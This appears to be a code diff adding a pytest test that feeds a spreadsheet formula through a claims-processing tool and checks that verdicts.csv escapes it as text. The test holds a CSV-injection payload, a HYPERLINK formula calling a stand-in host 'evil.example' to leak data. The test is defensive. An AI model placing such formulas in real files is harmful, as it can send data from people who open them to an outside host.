@@ -24,3 +24,22 @@ def test_a_run_on_bad_data_is_refused_before_anything_runs_and_touches_nothing(t
         assert part in err, err
     assert snapshot(tmp_path) == before
     assert {p.name for p in paths.ROOT.iterdir()} == repo_before
+
+
+def test_a_formula_in_a_claims_words_reaches_verdicts_csv_as_text(tmp_path, data_copy):
+    """A claim's unit written as a spreadsheet formula runs through its notebook into verdicts.csv, where a
+    spreadsheet shows it as text (a leading quote); no cell of the file starts a formula."""
+    import csv
+
+    import yaml
+
+    claims = yaml.safe_load((data_copy / "claims.yaml").read_text(encoding="utf-8"))
+    claim = next(c for c in claims if c.get("notebook") == "06_xai_founders.ipynb")
+    formula = '=HYPERLINK("http://evil.example/?leak","x")'
+    text = (data_copy / "claims.yaml").read_text(encoding="utf-8")
+    (data_copy / "claims.yaml").write_text(text.replace(f"unit: {claim['unit']}", f"unit: '{formula}'", 1), encoding="utf-8")
+    assert cli.main(["run", "06_xai_founders", "--jobs", "1", "--output", str(tmp_path / "out")]) == 0
+    with open(tmp_path / "out" / "verdicts.csv", newline="", encoding="utf-8") as handle:
+        rows = {row["claim_id"]: row for row in csv.DictReader(handle)}
+    assert rows[claim["id"]]["unit"] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row.values())
